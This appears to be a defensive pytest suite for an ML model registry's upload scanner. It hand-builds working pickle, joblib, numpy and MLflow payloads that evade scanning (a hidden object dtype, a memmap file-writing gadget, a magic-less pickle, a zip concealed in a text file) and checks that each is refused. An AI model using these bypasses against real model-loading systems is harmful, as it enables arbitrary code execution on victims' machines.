"""Scanner bypasses found by a data scientist, each built by hand and put through the real upload service.

Every hostile file here tries to write CANARY. The ``*_is_real`` tests load the same bytes the way the portal's
sandbox would (joblib, pickle, MLflow's pyfunc loader) in a throwaway subprocess with the canary moved into
``tmp_path``, so each test below refuses a working exploit, not a file that would have failed anyway. The upload
tests then check the portal refuses it with a finding that names what to fix, stores nothing, and the canary never
appears.
"""

from __future__ import annotations

import io
import struct
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from registry.models import Blob, ModelVersion, RegisteredModel
from registry.versions import services
from tests.conftest import ROOT, assert_error_shape
from tests.registry import files

pytestmark = [pytest.mark.django_db, pytest.mark.real_sandbox]


# --- Pickle opcodes, by hand -------------------------------------------------------------------------------------

PROTO2 = b"\x80\x02"
MARK, STOP, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b".", b"t", b"\x85", b"\x86", b"\x87"
REDUCE, BUILD, NEWOBJ, SETITEMS, APPENDS = b"R", b"b", b"\x81", b"u", b"e"
EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, NONE, NEWTRUE, NEWFALSE, POP = b"}", b"]", b")", b"N", b"\x88", b"\x89", b"0"


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(s: str) -> bytes:
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def integer(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def np_dtype(code: str, order: str, *, names: tuple[str, ...] | None = None,
             fields: list[tuple[str, bytes, int]] | None = None, itemsize: int = -1, alignment: int = -1,
             flags: int = 0) -> bytes:
    """``numpy.dtype(code, False, True)`` then BUILD with numpy's own state tuple, as numpy pickles a dtype."""
    call = glob("numpy", "dtype") + text(code) + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
    if names is None:
        names_ops, fields_ops = NONE, NONE
    else:
        names_ops = MARK + b"".join(text(n) for n in names) + TUPLE
        fields_ops = EMPTY_DICT + MARK + b"".join(text(n) + d + integer(off) + TUPLE2 for n, d, off in fields or []) \
            + SETITEMS
    state = MARK + integer(3) + text(order) + NONE + names_ops + fields_ops + integer(itemsize) \
        + integer(alignment) + integer(flags) + TUPLE
    return call + state + BUILD


def exec_pickle(code: str, *, pad_to_multiple: int = 1) -> bytes:
    """A protocol 2 pickle calling builtins.exec(code), padded (inside the code string) to a size multiple."""
    def build(c: str) -> bytes:
        return PROTO2 + glob("builtins", "exec") + text(c) + TUPLE1 + REDUCE + STOP

    data = build(code)
    missing = -len(data) % pad_to_multiple
    if missing:
        data = build(code + "#" * missing)
    assert len(data) % pad_to_multiple == 0
    return data


def write_canary(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').write('pwned')"


# --- Hole 1: a joblib array whose dtype hides an object field -----------------------------------------------------

def joblib_void_dtype_hiding_objects(canary: Path = files.CANARY, *, variant: str = "void") -> bytes:
    """A joblib NumpyArrayWrapper whose dtype reads 'V8' but whose BUILD state gives it one object field (or, variant
    "flags", reads 'f8' but whose state sets numpy's has-object flag).

    numpy's unpickled dtype has hasobject=True, so joblib unpickles the bytes after the wrapper; a scanner that
    reads only 'V8' takes them for count * 8 bytes of raw data and skips them. The nested pickle is padded to exactly
    that size, so the scanner lands back on the outer pickle's next opcode and sees nothing wrong.
    """
    nested = exec_pickle(write_canary(canary), pad_to_multiple=8)
    count = len(nested) // 8
    object_dtype = np_dtype("O8", "|", flags=63)
    if variant == "flags":
        hidden = np_dtype("f8", "<", flags=63)
    else:
        hidden = np_dtype("V8", "|", names=("a",), fields=[("a", object_dtype, 0)], itemsize=8, alignment=1, flags=27)
    wrapper = (glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + MARK
               + text("subclass") + glob("numpy", "ndarray")
               + text("shape") + integer(count) + TUPLE1
               + text("order") + text("C")
               + text("dtype") + hidden
               + text("allow_mmap") + NEWFALSE
               + SETITEMS + BUILD)
    return PROTO2 + EMPTY_DICT + MARK + text("model") + wrapper + nested + SETITEMS + STOP


def joblib_wrapper_built_by_reconstructor(canary: Path = files.CANARY) -> bytes:
    """The wrapper made by copyreg._reconstructor (how protocol 0 and 1 pickle objects) instead of NEWOBJ: joblib still
    treats it as an array wrapper and reads 5 raw bytes after it. A scanner that only knows the NEWOBJ form parses
    those 5 bytes as opcodes instead: 'X' and a length, a string that swallows the opcodes joblib then runs."""
    evil = glob("builtins", "exec") + text(write_canary(canary)) + TUPLE1 + REDUCE + POP
    raw = b"X" + struct.pack("<I", len(evil))
    wrapper = (glob("copyreg", "_reconstructor") + glob("joblib.numpy_pickle", "NumpyArrayWrapper")
               + glob("builtins", "object") + NONE + TUPLE3 + REDUCE + EMPTY_DICT + MARK
               + text("subclass") + glob("numpy", "ndarray")
               + text("shape") + integer(len(raw)) + TUPLE1
               + text("order") + text("C")
               + text("dtype") + np_dtype("u1", "|")
               + text("allow_mmap") + NEWFALSE
               + SETITEMS + BUILD)
    return PROTO2 + wrapper + raw + evil + POP + STOP


# --- Hole 2: allowlisted classes that write or load files ---------------------------------------------------------

def pickle_memmap_writes_a_file(target: Path = files.CANARY, content: bytes = b"pwned") -> bytes:
    """numpy.memmap(target, 'uint8', 'w+', 0, (n,)) creates the file; SETITEMS writes memmap[0:n] = content. With
    target a .pth file in site-packages, the next Python process runs the line."""
    values = EMPTY_LIST + MARK + b"".join(integer(b) for b in content) + APPENDS
    key = glob("builtins", "slice") + integer(0) + integer(len(content)) + TUPLE2 + REDUCE
    return (PROTO2 + glob("numpy", "memmap")
            + MARK + text(str(target)) + text("uint8") + text("w+") + integer(0) + integer(len(content)) + TUPLE1
            + TUPLE + REDUCE
            + MARK + key + values + SETITEMS + STOP)


def npy_with_pickled_objects(dest: Path, canary: Path = files.CANARY) -> Path:
    """A .npy file of dtype object: np.load(allow_pickle=True) unpickles its body."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    dest.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
                     + exec_pickle(write_canary(canary)))
    return dest


def joblib_ndarray_wrapper_loads_a_file(npy: Path) -> bytes:
    """joblib's legacy NDArrayWrapper: on BUILD joblib calls np.load(filename, allow_pickle=True)."""
    return (PROTO2 + glob("joblib.numpy_pickle_compat", "NDArrayWrapper") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + MARK
            + text("filename") + text(str(npy)) + text("subclass") + glob("numpy", "ndarray")
            + text("allow_mmap") + NEWFALSE + SETITEMS + BUILD + STOP)


# --- Hole 3: a model file MLflow unpickles that does not start like a pickle ----------------------------------------

def pickle_not_starting_with_magic(canary: Path = files.CANARY, *, binary: bool = False) -> bytes:
    """Opcodes before PROTO are legal: 'N0' (None, pop) is printable, so the file sniffs as text; ']0' then the
    protocol 2 pickle sniffs as unknown binary. pickle.load runs it either way."""
    prefix = EMPTY_LIST + POP if binary else NONE + POP
    return prefix + exec_pickle(write_canary(canary))


def mlmodel(*, pickled_model: str = "model.pkl", code: str | None = None, loader_module: str = "mlflow.sklearn",
            serialization_format: str = "cloudpickle") -> bytes:
    code_line = f"    code: {code}\n" if code else ""
    return textwrap.dedent(f"""\
        flavors:
          python_function:
            env:
              virtualenv: python_env.yaml
            loader_module: {loader_module}
            model_path: {pickled_model}
            predict_fn: predict
            python_version: 3.11.7
        __CODE__  sklearn:
            code: null
            pickled_model: {pickled_model}
            serialization_format: {serialization_format}
            sklearn_version: 1.7.0
        mlflow_version: 3.1.0
        """).replace("__CODE__", code_line).encode()


def model_zip(dest: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("python_env.yaml", b"python: 3.11.7\ndependencies:\n- mlflow\n")
        for name, data in members.items():
            archive.writestr(name, data)
    return dest


def clean_model_pickle() -> bytes:
    import pickle

    return pickle.dumps(files.logistic_regression(), protocol=4)


# --- Hole 4: code paths hiding a zip of Python modules ------------------------------------------------------------

def text_ending_in_a_zip(module: str, canary: Path = files.CANARY) -> bytes:
    """Readable text, then a zip holding ``module.py``: zipimport finds the archive from its end, so a path naming
    this file on sys.path imports the module."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr(f"{module}.py", write_canary(canary) + "\n_load_pyfunc = None\n")
    return b"Release notes for the churn model.\n" * 4 + buf.getvalue()


# --- Proof that each file is a working exploit --------------------------------------------------------------------

def run_isolated(code: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", code], cwd=cwd, capture_output=True, text=True, timeout=300,
                          env={"PATH": "/usr/bin:/bin", "HOME": str(cwd), "PYTHONPATH": str(ROOT)})


def test_the_hostile_files_are_real_exploits(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    cases: list[tuple[str, bytes, str]] = [
        ("void.joblib", joblib_void_dtype_hiding_objects(canary), "import joblib; joblib.load('void.joblib')"),
        ("flags.joblib", joblib_void_dtype_hiding_objects(canary, variant="flags"),
         "import joblib; joblib.load('flags.joblib')"),
        ("reconstructed.joblib", joblib_wrapper_built_by_reconstructor(canary),
         "import joblib; joblib.load('reconstructed.joblib')"),
        ("memmap.pkl", pickle_memmap_writes_a_file(canary), "import pickle; pickle.load(open('memmap.pkl', 'rb'))"),
        ("wrapper.joblib", joblib_ndarray_wrapper_loads_a_file(npy_with_pickled_objects(tmp_path / "a.npy", canary)),
         "import joblib; joblib.load('wrapper.joblib')"),
        ("text.pkl", pickle_not_starting_with_magic(canary), "import pickle; pickle.load(open('text.pkl', 'rb'))"),
        ("binary.pkl", pickle_not_starting_with_magic(canary, binary=True),
         "import pickle; pickle.load(open('binary.pkl', 'rb'))"),
    ]
    for name, data, loader in cases:
        canary.unlink(missing_ok=True)
        (tmp_path / name).write_bytes(data)
        result = run_isolated(loader, tmp_path)
        assert canary.exists(), (name, result.stderr[-2000:])


def test_the_hostile_mlflow_models_are_real_exploits(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    models = {
        "text-pickle": {"MLmodel": mlmodel(pickled_model="model.ckpt"),
                        "model.ckpt": pickle_not_starting_with_magic(canary)},
        "zip-in-text": {"MLmodel": mlmodel(code="NOTES.txt", loader_module="evilmod"),
                        "model.pkl": clean_model_pickle(), "NOTES.txt": text_ending_in_a_zip("evilmod", canary)},
    }
    for name, members in models.items():
        canary.unlink(missing_ok=True)
        target = tmp_path / name
        with zipfile.ZipFile(model_zip(tmp_path / f"{name}.zip", members)) as archive:
            archive.extractall(target)
        result = run_isolated(f"import mlflow.pyfunc; mlflow.pyfunc.load_model({str(target)!r})", tmp_path)
        assert canary.exists(), (name, result.stderr[-2000:])


# --- The portal refuses them --------------------------------------------------------------------------------------

@pytest.fixture
def model(personas: dict[str, Any]) -> RegisteredModel:
    from portal.models import Team

    return services.model_register(name="churn", team=Team.objects.get(slug="acme"), actor=personas["ds"])


@pytest.fixture(autouse=True)
def no_canary() -> Any:
    files.CANARY.unlink(missing_ok=True)
    yield
    assert not files.CANARY.exists(), "a payload ran: the canary file was created"


def refused(client: Any, filename: str, data: bytes) -> dict[str, Any]:
    response = client.post("/api/v1/models/churn/versions/", {"file": SimpleUploadedFile(filename, data)},
                           format="multipart")
    body = assert_error_shape(response, 422, "upload_rejected")
    assert not ModelVersion.objects.exists() and not Blob.objects.exists()
    return body


@pytest.mark.parametrize("variant", ["void", "flags"])
def test_a_dtype_hiding_an_object_field_is_refused(variant: str, personas: dict[str, Any], model: RegisteredModel,
                                                   api_as: Any) -> None:
    body = refused(api_as(personas["ds"]), "model.joblib", joblib_void_dtype_hiding_objects(variant=variant))
    message = body["error"]["message"]
    assert "builtins.exec" in message or "element type" in message, message


def test_a_wrapper_made_by_reconstructor_is_still_read_as_an_array(personas: dict[str, Any], model: RegisteredModel,
                                                                   api_as: Any) -> None:
    body = refused(api_as(personas["ds"]), "model.joblib", joblib_wrapper_built_by_reconstructor())
    assert "builtins.exec" in body["error"]["message"], body


def test_numpy_memmap_is_not_allowed(personas: dict[str, Any], model: RegisteredModel, api_as: Any) -> None:
    body = refused(api_as(personas["ds"]), "model.pkl", pickle_memmap_writes_a_file())
    assert "numpy.memmap" in body["error"]["message"], body


def test_joblibs_legacy_file_loading_wrapper_is_not_allowed(personas: dict[str, Any], model: RegisteredModel,
                                                            api_as: Any, tmp_path: Path) -> None:
    npy = npy_with_pickled_objects(tmp_path / "a.npy")
    body = refused(api_as(personas["ds"]), "model.joblib", joblib_ndarray_wrapper_loads_a_file(npy))
    assert "joblib.numpy_pickle_compat.NDArrayWrapper" in body["error"]["message"], body


def test_no_allowlisted_class_opens_writes_or_runs_anything() -> None:
    from registry.scanning.allowlist import allowed_classes
    from registry.scanning.pickles import SAFE_CALLABLES

    allowed = allowed_classes()
    for gadget in ("numpy:memmap", "numpy:vectorize", "sklearn.utils._testing:TempMemmap",
                   "sklearn.utils.parallel:Parallel", "sklearn.utils.parallel:_FuncWrapper",
                   "lightgbm.basic:_TempFile", "xgboost.tracker:RabitTracker", "xgboost.federated:FederatedTracker",
                   "xgboost.collective:CommunicatorContext", "xgboost.core:DMatrix"):
        assert gadget not in allowed, gadget
    assert ("joblib.numpy_pickle_compat", "NDArrayWrapper") not in SAFE_CALLABLES


@pytest.mark.parametrize("binary", [False, True], ids=["text-looking", "binary"])
def test_a_pickled_model_without_the_pickle_magic_is_scanned(binary: bool, personas: dict[str, Any],
                                                             model: RegisteredModel, api_as: Any,
                                                             tmp_path: Path) -> None:
    bad = model_zip(tmp_path / "m.zip", {"MLmodel": mlmodel(pickled_model="model.ckpt"),
                                          "model.ckpt": pickle_not_starting_with_magic(binary=binary)})
    body = refused(api_as(personas["ds"]), "model.zip", bad.read_bytes())
    assert "model.ckpt" in body["error"]["message"] and "builtins.exec" in body["error"]["message"], body


def test_a_python_model_named_by_the_flavor_must_be_a_clean_pickle(personas: dict[str, Any], model: RegisteredModel,
                                                                  api_as: Any, tmp_path: Path) -> None:
    """Whatever a flavor names as its model file is unpickled by MLflow, so content that is no clean pickle (and no
    other format the portal checks) is refused, not waved through as text."""
    bad = model_zip(tmp_path / "m.zip", {"MLmodel": mlmodel(pickled_model="weights.txt"),
                                          "weights.txt": b"these are not weights\n"})
    body = refused(api_as(personas["ds"]), "model.zip", bad.read_bytes())
    assert "weights.txt" in body["error"]["message"], body


def test_an_unclassifiable_member_is_scanned_as_a_pickle(personas: dict[str, Any], model: RegisteredModel,
                                                         api_as: Any, tmp_path: Path) -> None:
    bad = model_zip(tmp_path / "m.zip", {"MLmodel": mlmodel(), "model.pkl": clean_model_pickle(),
                                          "extra/blob.bin": pickle_not_starting_with_magic(binary=True)})
    body = refused(api_as(personas["ds"]), "model.zip", bad.read_bytes())
    assert "extra/blob.bin" in body["error"]["message"], body


def _held_for_trust(client: Any, content: bytes) -> dict[str, Any]:
    """Models that bring code are not refused: they wait for an approver's trust decision (four eyes, audited) and
    then load only in the sandbox. What the approver reads must name the code, hidden zips included."""
    response = client.post("/api/v1/models/churn/versions/",
                           {"file": SimpleUploadedFile("model.zip", content)}, format="multipart")
    assert response.status_code == 201, (response.status_code, response.content[:500])
    body = response.json()
    assert body["status"] == "scanning" and body["status_detail"].startswith("Waiting for an approver"), body
    return body


def test_a_code_path_naming_text_that_ends_in_a_zip_waits_for_trust_and_names_the_zip(
        personas: dict[str, Any], model: RegisteredModel, api_as: Any, tmp_path: Path) -> None:
    """Even with MLflow's own loader module, a code path puts the file first on sys.path, so any module the loader
    imports afterwards could come from the hidden zip: the approver is told so."""
    bad = model_zip(tmp_path / "m.zip", {"MLmodel": mlmodel(code="NOTES.txt"), "model.pkl": clean_model_pickle(),
                                          "NOTES.txt": text_ending_in_a_zip("skops")})
    detail = _held_for_trust(api_as(personas["ds"]), bad.read_bytes())["status_detail"]
    assert "NOTES.txt holds a zip archive" in detail, detail


def test_a_zip_hidden_in_a_text_file_under_code_waits_for_trust_and_is_named(
        personas: dict[str, Any], model: RegisteredModel, api_as: Any, tmp_path: Path) -> None:
    bad = model_zip(tmp_path / "m.zip", {"MLmodel": mlmodel(code="code"), "model.pkl": clean_model_pickle(),
                                          "code/helpers.txt": text_ending_in_a_zip("helpers")})
    detail = _held_for_trust(api_as(personas["ds"]), bad.read_bytes())["status_detail"]
    assert "code/helpers.txt holds a zip archive" in detail, detail


def test_a_loader_module_outside_mlflow_waits_for_trust_and_is_named(
        personas: dict[str, Any], model: RegisteredModel, api_as: Any, tmp_path: Path) -> None:
    bad = model_zip(tmp_path / "m.zip", {"MLmodel": mlmodel(loader_module="evilmod"),
                                          "model.pkl": clean_model_pickle()})
    detail = _held_for_trust(api_as(personas["ds"]), bad.read_bytes())["status_detail"]
    assert "loader_module evilmod" in detail, detail


@pytest.mark.parametrize("name", ["evil.pth", "code/mod.pyc", "lib/_speedups.so"])
def test_path_hooks_and_compiled_code_are_refused(name: str, personas: dict[str, Any], model: RegisteredModel,
                                                  api_as: Any, tmp_path: Path) -> None:
    bad = model_zip(tmp_path / "m.zip", {"MLmodel": mlmodel(), "model.pkl": clean_model_pickle(),
                                          name: b"import os\n"})
    body = refused(api_as(personas["ds"]), "model.zip", bad.read_bytes())
    assert name in body["error"]["message"], body


def test_a_real_mlflow_model_with_a_clean_pickle_is_still_accepted(personas: dict[str, Any], model: RegisteredModel,
                                                                   api_as: Any, tmp_path: Path) -> None:
    good = model_zip(tmp_path / "m.zip", {"MLmodel": mlmodel(), "model.pkl": clean_model_pickle(),
                                           "requirements.txt": b"mlflow\nscikit-learn\n"})
    response = api_as(personas["ds"]).post("/api/v1/models/churn/versions/",
                                           {"file": SimpleUploadedFile("model.zip", good.read_bytes())},
                                           format="multipart")
    assert response.status_code == 201, response.content


def test_a_joblib_tree_with_structured_node_arrays_is_still_accepted(personas: dict[str, Any],
                                                                     model: RegisteredModel, api_as: Any,
                                                                     tmp_path: Path) -> None:
    """A tree's nodes are a structured (void) dtype with numeric fields only: read with certainty, skipped as data."""
    from sklearn.tree import DecisionTreeClassifier

    X, y = files._data()
    path = files.joblib_file(tmp_path / "tree.joblib", DecisionTreeClassifier(max_depth=3).fit(X, y))
    response = api_as(personas["ds"]).post("/api/v1/models/churn/versions/",
                                           {"file": SimpleUploadedFile("tree.joblib", path.read_bytes())},
                                           format="multipart")
    assert response.status_code == 201, response.content
